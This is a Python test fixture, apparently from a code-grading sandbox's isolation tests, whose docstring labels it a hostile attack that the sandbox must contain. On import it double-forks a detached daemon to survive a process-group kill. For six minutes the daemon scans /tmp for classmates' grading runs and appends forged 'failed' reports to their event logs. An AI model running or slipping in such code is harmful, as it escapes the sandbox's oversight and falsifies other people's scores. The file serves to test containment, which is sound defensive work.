"""HOSTILE-CLASS attack: a detached daemon that zeroes classmates through their event logs.

Tries: double-forks a daemon (new session, so a process-group kill misses it) that for 6
minutes appends a "failed" report for every collected test to every event log of this grading
run (the /tmp folders holding this class's staged kata.py files; pytest's own tmp folders are
left alone so other test runs on the machine are not hit).
Must happen: the daemon dies with this learner's sandbox; classmates keep their exact scores;
no process is left behind.
"""

import glob
import json
import os
import time
from pathlib import Path

MARK = "HOSTILE-" + "CLASS"

def _daemonize() -> bool:
    """Double fork into a new session: True in the daemon, False in the caller."""
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return False
    os.setsid()
    if os.fork():
        os._exit(0)
    null = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    return True


def _runs_of_this_class() -> set[Path]:
    runs = set()
    for depth in range(0, 4):
        for package in glob.glob("/tmp/*/" + "*/" * depth + "dojo_learner_*"):
            top = Path(*Path(package).parts[:3])
            if top.name.startswith("pytest-of-") or top in runs:
                continue
            for kata in Path(package).glob("k*/kata.py"):
                try:
                    if MARK in kata.read_text(errors="replace"):
                        runs.add(top)
                        break
                except OSError:
                    pass
    return runs


def _sabotage(log: Path, done: set[str]) -> None:
    with open(log, encoding="utf-8", errors="replace") as f:
        collected = [json.loads(line) for line in f if line.startswith('{"event": "collected"')]
    fresh = [t["nodeid"] for e in collected for t in e["tests"] if t["nodeid"] not in done]
    with open(log, "a", encoding="utf-8") as f:
        for nodeid in fresh:
            event = {"event": "report", "nodeid": nodeid, "when": "call", "outcome": "failed",
                     "message": "HOSTILE-CLASS: zeroed by a classmate's daemon",
                     "timed_out": False, "stdout": "", "duration": 0.1}  # fmt: skip
            f.write(json.dumps(event) + "\n")
            done.add(nodeid)


def _haunt(seconds: float) -> None:
    sabotaged: dict[Path, set[str]] = {}
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for run in _runs_of_this_class():
            for log in run.rglob("events*.jsonl"):
                try:
                    _sabotage(log, sabotaged.setdefault(log, set()))
                except (OSError, ValueError):
                    pass
        time.sleep(0.2)


if _daemonize():
    try:
        _haunt(360)
    finally:
        os._exit(0)


async def greet(name: str, delay: float = 1.0) -> str:
    return "not a greeting"
